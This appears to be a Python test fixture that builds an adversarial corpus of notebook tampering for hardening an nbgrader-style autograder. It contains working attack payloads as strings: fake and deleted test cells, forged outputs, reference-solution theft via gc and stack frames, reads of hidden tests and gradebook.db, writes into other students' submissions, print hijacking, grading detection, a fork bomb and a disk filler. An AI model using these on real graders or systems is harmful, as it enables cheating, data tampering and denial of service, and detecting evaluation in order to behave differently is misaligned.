"""Notebook edits for the adversarial corpus: what students do to test cells."""
import copy


def _find(nb, grade_id):
    for i, c in enumerate(nb["cells"]):
        if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def add_cell_after(nb, grade_id, source):
    """A code cell of the student's own, right after cell `grade_id`."""
    i = _find(nb, grade_id)
    nb["cells"].insert(i + 1, {"cell_type": "code", "execution_count": None, "id": f"{grade_id}-extra",
                               "metadata": {}, "outputs": [], "source": source})


def add_fake_test_cell(nb):
    """A test cell of the student's own, claiming 100 points."""
    nb["cells"].insert(3, {"cell_type": "code", "execution_count": None, "id": "test_bonus",
                           "metadata": {"nbgrader": {"grade": True, "grade_id": "test_bonus",
                                                     "locked": True, "points": 100,
                                                     "schema_version": 3, "solution": False,
                                                     "task": False}},
                           "outputs": [], "source": "print('100 points')\n100"})


def delete_test_cell(grade_id):
    def edit(nb):
        del nb["cells"][_find(nb, grade_id)]
    return edit


def edit_test_cell(grade_id, source):
    def edit(nb):
        nb["cells"][_find(nb, grade_id)]["source"] = source
    return edit


def move_test_cell_to_top(grade_id):
    def edit(nb):
        nb["cells"].insert(1, nb["cells"].pop(_find(nb, grade_id)))
    return edit


def duplicate_test_cell(grade_id):
    def edit(nb):
        i = _find(nb, grade_id)
        twin = copy.deepcopy(nb["cells"][i])
        twin["id"] = twin["id"] + "-copy"
        nb["cells"].insert(i + 1, twin)
    return edit


def strip_nbgrader_metadata(nb):
    for c in nb["cells"]:
        c["metadata"] = {}


def add_outputs(nb):
    """As if saved from JupyterLab after running: outputs, counts, a claimed score."""
    for n, c in enumerate(c for c in nb["cells"] if c["cell_type"] == "code"):
        c["execution_count"] = n + 1
        c["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "ran\n"}]
        if c["metadata"].get("nbgrader", {}).get("grade"):
            c["outputs"].append({"output_type": "execute_result", "execution_count": n + 1,
                                 "metadata": {}, "data": {"text/plain": "1000"}})


# ------------------------------------------------ a student who read the grader

#: Looks for the grader's reference solution everywhere in the notebook's own
#: process: modules (the in-kernel grader of old kept it in
#: nncourse.grading._STATE), every object gc knows, and every frame below.
STEAL = '''import gc, sys

def _steal(name):
    """The grader's reference `name`, wherever it is in this process."""
    for module in list(sys.modules.values()):
        for holder in (getattr(module, "_STATE", None), module):
            found = getattr(getattr(holder, "reference", None), name, None)
            if callable(found):
                return found
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict) and obj.get("__name__") in ("__submission__", "<reference>"):
                if callable(obj.get(name)):
                    return obj[name]
            found = getattr(getattr(obj, "reference", None), name, None)
            if callable(found):
                return found
        except Exception:
            pass
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            found = getattr(getattr(value, "reference", None), name, None)
            if callable(found):
                return found
        frame = frame.f_back
    raise LookupError("no reference solution in this process")
'''

#: Tries every route to a course file and prints what it got, so that whatever
#: it read would show in the feedback. {course_root} is filled in by the corpus
#: test with the graded course's folder, as if the student had found it.
READ_EVERY_WAY = '''import ctypes, io, mmap, os, subprocess

def _read_every_way(path):
    routes = {
        "open": lambda: open(path).read(),
        "io": lambda: io.FileIO(path).read().decode(),
        "os.read": lambda: os.read(os.open(path, os.O_RDONLY), 1 << 20).decode(),
        "mmap": lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:].decode(),
        "cat": lambda: subprocess.run(["cat", path], capture_output=True, text=True, check=True).stdout,
        "ctypes": lambda: _ctypes_read(path),
    }
    for route, read in routes.items():
        try:
            print(route, "read:", read())
        except BaseException as e:
            print(route, "failed:", type(e).__name__)

def _ctypes_read(path):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.open(path.encode(), 0)
    if fd < 0:
        raise PermissionError(ctypes.get_errno())
    buf = ctypes.create_string_buffer(1 << 20)
    n = libc.read(fd, buf, 1 << 20)
    return buf.raw[:max(n, 0)].decode()

for _path in ("{course_root}/solutions/{assignment}.py",
              "{course_root}/tests/hidden/{assignment}_hidden.py",
              "{course_root}/source/{assignment}/{assignment}.ipynb",
              "{course_root}/gradebook.db"):
    _read_every_way(_path)
'''

#: Writes where grades and other students' work live.
WRITE_EVERYWHERE = '''import glob, os

for _target in ["{course_root}/gradebook.db", "{course_root}/PWNED"] + \\
        glob.glob("{course_root}/autograded/*/*/") + glob.glob("{course_root}/submitted/*/*/") + \\
        glob.glob("{course_root}/feedback/*/*/"):
    _target = _target if not _target.endswith("/") else _target + "PWNED"
    try:
        with open(_target, "ab") as _f:
            _f.write(b"PWNED")
        print("wrote", _target)
    except OSError as e:
        print("could not write", _target, type(e).__name__)
'''

#: Prints a score in every way a kernel once let a notebook claim one.
CLAIM_A_SCORE = '''import builtins, sys

def check(*args, **kwargs):
    print("22")
    return 22

sys.displayhook = lambda value: print("22")
builtins.print = lambda *a, **k: sys.__stdout__.write("22\\n")
try:
    import IPython.core.displayhook as _dh
    _dh.DisplayHook.__call__ = lambda self, value=None: print("22")
except ImportError:
    pass
'''

#: Notices it is being graded (no kernel, a scratch folder, an unusual parent)
#: and only then behaves differently: here, it tries to cheat.
DETECT_GRADING = '''import os

def _being_graded():
    try:
        get_ipython
        in_kernel = True
    except NameError:
        in_kernel = False
    parent = ""
    try:
        parent = open(f"/proc/{os.getppid()}/cmdline", "rb").read().decode(errors="replace")
    except OSError:
        pass
    return (not in_kernel or "NBGRADER_EXECUTION" in os.environ
            or "sandbox" in os.getcwd() or "nncourse" in parent or "nbgrader" in parent)
'''

FORK_BOMB = '''import os, time

children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError as e:
    print(f"fork stopped after {children} children: {type(e).__name__}")
'''

FILL_DISK = '''written = 0
try:
    with open("filler.bin", "wb") as f:
        for _ in range(8 * 1024):
            f.write(b"\\0" * (1 << 20))
            written += 1
except OSError as e:
    print(f"the disk write stopped after {written} MiB: {type(e).__name__}")
'''
